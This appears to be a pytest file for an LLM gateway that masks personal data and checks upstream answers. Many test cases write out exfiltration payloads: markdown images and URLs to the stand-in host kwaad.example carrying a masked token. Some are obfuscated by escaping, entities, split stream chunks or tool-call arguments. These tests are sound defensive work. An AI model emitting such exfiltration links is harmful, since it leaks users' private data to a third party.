"""An endpoint that means harm: nothing it sends slips past the checks of an answer."""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.gate.make import DONE, STOP, World, answer_with, call, collected, event_of, user, world

from stadspoort.gate.call import OpenCall
from stadspoort.gate.errors import UpstreamError
from stadspoort.gate.values import Closing, Opening, Outcome


async def opened_for(here: World, text: str, *, is_stream: bool = False) -> tuple[OpenCall, str]:
    """Return an open call about `text`, and what stands in the place of its last word."""
    opened = await here.gate.open(call(user(text), stream=is_stream))
    sent: str = json.loads(opened.sent)["messages"][0]["content"]
    return opened, sent.split(" ")[-1]


def ending_of(here: World) -> Closing:
    """Return how the one call ended."""
    [closing] = [entry for _, entry in here.journal.entries if isinstance(entry, Closing)]
    return closing


def estimate_of(here: World) -> int:
    """Return the tokens that the one call set aside."""
    [opening] = [entry for _, entry in here.journal.entries if isinstance(entry, Opening)]
    return opening.estimated_tokens


@pytest.mark.parametrize(
    ("first", "second"),
    [
        pytest.param("![x](https:", "//kwaad.example/a.png)", id="a picture cut at the end"),
        pytest.param("https://kwaad.example/?q=", "{token}", id="an address cut at the end"),
    ],
)
async def test_text_behind_the_end_of_a_choice_is_garbage(first: str, second: str) -> None:
    """The end made the first half harmless as it stood; the second would bring it back to life."""
    here = world()
    opened, token = await opened_for(here, "Van mevrouw Jansen", is_stream=True)
    here.upstream.events = [
        event_of({"content": first}, "stop"),
        event_of({"content": second.format(token=token)}),
        DONE,
    ]
    received: list[dict[str, Any]] = []
    with pytest.raises(UpstreamError) as caught:
        received.extend([chunk async for chunk in here.gate.stream(opened)])

    assert caught.value.outcome == Outcome.UPSTREAM_GARBAGE
    assert "Jansen" not in json.dumps(received)
    assert here.journal.outcome == Outcome.UPSTREAM_GARBAGE


async def test_what_was_held_back_comes_behind_what_was_not() -> None:
    """Also when the end of the choice comes in the same event."""
    here = world()
    opened, _ = await opened_for(here, "Dag", is_stream=True)
    here.upstream.events = [event_of({"content": "Een [open haak"}, "stop"), DONE]
    chunks = [chunk["choices"][0] async for chunk in here.gate.stream(opened)]

    assert "".join(c["delta"].get("content", "") for c in chunks) == "Een [open haak"
    assert [c["finish_reason"] for c in chunks][-1] == "stop"


@pytest.mark.parametrize(
    "tool_call",
    [
        pytest.param({"type": "custom", "custom": {"name": "m", "input": "{0}"}}, id="custom tool"),
        pytest.param(
            {"type": "function", "function": {"name": "m", "arguments": {"bsn": "{0}"}}},
            id="arguments as an object",
        ),
        pytest.param({"type": "function", "vraag": ["{0}"]}, id="a field nobody knows"),
    ],
)
async def test_a_bsn_reaches_no_tool_in_whatever_form(tool_call: dict[str, Any]) -> None:
    """Restricted values come back in the text of the answer and nowhere else."""
    here = world()
    opened, token = await opened_for(here, "BSN 123456782")
    filled = json.loads(json.dumps(tool_call).replace("{0}", token))
    here.upstream.answer = answer_with(f"Het is {token}.", tool_calls=[filled])
    message = (await here.gate.answer(opened))["choices"][0]["message"]

    assert message["content"] == "Het is 123456782."
    assert message["tool_calls"] == [filled]


async def test_a_bsn_comes_back_in_text_parts_but_not_in_thoughts() -> None:
    """A list of text parts is answer text too; what a model thinks aloud is not."""
    here = world()
    opened, token = await opened_for(here, "BSN 123456782")
    here.upstream.answer = answer_with("", reasoning_content=f"Hm, {token}.")
    here.upstream.answer["choices"][0]["message"]["content"] = [
        {"type": "text", "text": f"Het is {token}."}
    ]
    message = (await here.gate.answer(opened))["choices"][0]["message"]

    assert message["content"] == [{"type": "text", "text": "Het is 123456782."}]
    assert message["reasoning_content"] == f"Hm, {token}."


@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param(r'{"u": "https:\/\/kwaad.example\/?q=TOKEN"}', id="escaped slashes"),
        pytest.param(r'{"u": "https:\u002f\u002fkwaad.example?q=TOKEN"}', id="slashes as codes"),
    ],
)
async def test_an_address_in_json_is_an_address(arguments: str) -> None:
    r"""JSON may write "/" as "\/": to the tool it is the same address."""
    here = world()
    opened, token = await opened_for(here, "Van mevrouw Jansen")
    tool_call = {
        "type": "function",
        "function": {"name": "haal", "arguments": arguments.replace("TOKEN", token)},
    }
    here.upstream.answer = answer_with("", tool_calls=[tool_call])
    answer = await here.gate.answer(opened)

    assert answer["choices"][0]["finish_reason"] == "content_filter"
    assert "Jansen" not in json.dumps(answer)


@pytest.mark.parametrize("is_stream", [False, True])
async def test_fields_beside_the_message_are_checked_too(is_stream: bool) -> None:
    """A client may show them: pictures in them are as bad as in the text."""
    here = world()
    opened, _ = await opened_for(here, "Dag", is_stream=is_stream)
    picture = "![x](https://kwaad.example/a.png)"
    here.upstream.answer = {**answer_with("Dag."), "bronnen": [picture]}
    here.upstream.answer["choices"][0]["text"] = picture
    event = {
        "choices": [{"index": 0, "delta": {"content": "Dag."}, "text": picture}],
        "bronnen": [picture],
    }
    here.upstream.events = [b"data: " + json.dumps(event).encode() + b"\n\n", STOP, DONE]
    answer = (
        [chunk async for chunk in here.gate.stream(opened)]
        if is_stream
        else await here.gate.answer(opened)
    )

    assert "https://" not in json.dumps(answer)
    assert json.dumps(answer).count("x (afbeelding van kwaad.example weggelaten)") == 2


@pytest.mark.parametrize("field", ["role", "id", "type", "object", "name", "finish_reason"])
@pytest.mark.parametrize("is_stream", [False, True])
async def test_fields_for_words_are_believed_only_when_they_hold_one(
    field: str, is_stream: bool
) -> None:
    """A picture in the field for an id is a picture."""
    here = world()
    opened, _ = await opened_for(here, "Dag", is_stream=is_stream)
    picture = "![x](https://kwaad.example/a.png)"
    extra = {"bron": {field: picture, "tool": {field: "call_a-1.b"}}}
    here.upstream.answer = answer_with("Dag.", **extra)
    here.upstream.events = [event_of({"content": "Dag.", **extra}), STOP, DONE]
    answer = (
        [chunk async for chunk in here.gate.stream(opened)]
        if is_stream
        else await here.gate.answer(opened)
    )

    assert "https://" not in json.dumps(answer)
    assert "call_a-1.b" in json.dumps(answer)


async def test_figures_per_token_stay_as_they_are() -> None:
    """Log probabilities are per token of the model: checking them would spoil them."""
    here = world()
    opened, token = await opened_for(here, "Van mevrouw Jansen")
    here.upstream.answer = answer_with("Dag.")
    figures = {"content": [{"token": token, "logprob": -0.5, "bytes": None, "top_logprobs": []}]}
    here.upstream.answer["choices"][0]["logprobs"] = figures
    answer = await here.gate.answer(opened)

    assert answer["choices"][0]["logprobs"] == figures


@pytest.mark.parametrize(
    "address",
    [
        pytest.param("&#104;ttps&#58;&#47;&#47;kwaad.example/?q={0}", id="decimal"),
        pytest.param("https&colon;&sol;&sol;kwaad.example/?q={0}", id="by name"),
        pytest.param("https&#x3A;&#x2f;&#x02F;kwaad.example/?q={0}", id="hexadecimal"),
    ],
)
async def test_an_address_in_entities_is_an_address(address: str) -> None:
    """Whoever decodes the text once, to copy or to show it, has the address."""
    here = world()
    opened, token = await opened_for(here, "Van mevrouw Jansen", is_stream=True)
    letters = address.format(token)
    here.upstream.events = [*(event_of({"content": letter}) for letter in letters), STOP, DONE]
    chunks = [chunk async for chunk in here.gate.stream(opened)]

    assert chunks[-1]["choices"][0]["finish_reason"] == "content_filter"
    assert "Jansen" not in json.dumps(chunks)


async def test_an_error_that_calls_itself_a_success_is_an_error() -> None:
    """Some servers answer 200 with an error in it; `"error": null` is none."""
    here = world()
    opened, _ = await opened_for(here, "Dag")
    here.upstream.answer = {"error": {"message": "vol"}}
    with pytest.raises(UpstreamError) as caught:
        await here.gate.answer(opened)

    assert caught.value.outcome == here.journal.outcome == Outcome.UPSTREAM_ERROR


def _nested(levels: int) -> object:
    value: object = "x"
    for _ in range(levels):
        value = [value]
    return value


@pytest.mark.parametrize(
    "message",
    [
        pytest.param({"content": "x", "diep": _nested(70)}, id="more levels than any answer"),
        pytest.param({"tool_calls": [{"index": "0"}]}, id="an index that is a text"),
    ],
)
@pytest.mark.parametrize("is_stream", [False, True])
async def test_odd_shapes_are_garbage(message: dict[str, Any], is_stream: bool) -> None:
    """Named as what they are, not as a failure of the gate."""
    here = world()
    opened, _ = await opened_for(here, "Dag", is_stream=is_stream)
    here.upstream.answer = {"choices": [{"index": 0, "message": message}]}
    here.upstream.events = [event_of(message), STOP, DONE]
    with pytest.raises(UpstreamError) as caught:
        await (collected(here.gate.stream(opened)) if is_stream else here.gate.answer(opened))

    assert caught.value.outcome == here.journal.outcome == Outcome.UPSTREAM_GARBAGE


async def test_fields_without_end_are_garbage() -> None:
    """Each field that grows costs memory: an answer has a bound on them."""
    here = world()
    opened, _ = await opened_for(here, "Dag", is_stream=True)
    here.upstream.events = [event_of({f"veld{number}": "x" for number in range(2_001)}), STOP, DONE]
    with pytest.raises(UpstreamError):
        _ = [chunk async for chunk in here.gate.stream(opened)]

    assert here.journal.outcome == Outcome.UPSTREAM_GARBAGE


@pytest.mark.parametrize(("length", "outcome"), [(1_000_000, "answered"), (1_000_001, "garbage")])
async def test_an_answer_has_a_bound_in_characters(length: int, outcome: str) -> None:
    """Text that is slow to check must not keep everybody waiting."""
    here = world()
    opened, _ = await opened_for(here, "Dag", is_stream=True)
    half = event_of({"content": "x" * 500_000})
    rest = event_of({"content": "x" * (length - 1_000_000)})
    here.upstream.events = [half, half, rest, STOP, DONE]
    if outcome == "answered":
        assert len(await collected(here.gate.stream(opened))) == length
        return
    with pytest.raises(UpstreamError) as caught:
        await collected(here.gate.stream(opened))

    assert caught.value.outcome == here.journal.outcome == Outcome.UPSTREAM_GARBAGE


async def test_an_endpoint_that_does_not_count_is_counted() -> None:
    """By length, three characters a token: else a budget lasts for ever."""
    here = world()
    opened, _ = await opened_for(here, "x" * 300, is_stream=True)
    here.upstream.events = [event_of({"content": "y" * 30}), STOP, DONE]
    _ = [chunk async for chunk in here.gate.stream(opened)]
    closing = ending_of(here)

    assert (closing.prompt_tokens, closing.completion_tokens) == (100, 10)


async def test_who_leaves_early_pays_for_what_was_asked() -> None:
    """Closing the connection before the count comes must not be free."""
    here = world()
    opened, _ = await opened_for(here, "x" * 300, is_stream=True)
    here.upstream.events = [event_of({"content": "y" * 30}), event_of({"content": "z"}), STOP, DONE]
    chunks = here.gate.stream(opened)
    await anext(chunks)
    await chunks.aclose()
    closing = ending_of(here)

    assert closing.outcome == Outcome.CLIENT_DISCONNECTED
    assert (closing.prompt_tokens, closing.completion_tokens) == (100, 10)


async def test_a_limit_beyond_all_counts_sets_aside_the_most_there_is() -> None:
    """A number that no database can hold must not read as a ledger that is down."""
    here = world()
    await here.gate.open(call(user("Dag"), max_tokens=10**30, n=4))

    assert estimate_of(here) == 2**31 - 1


async def test_every_answer_that_is_asked_is_set_aside() -> None:
    """Four answers of 100 tokens are 400, beside one for "Dag"."""
    here = world()
    await here.gate.open(call(user("Dag"), max_tokens=100, n=4))

    assert estimate_of(here) == 401
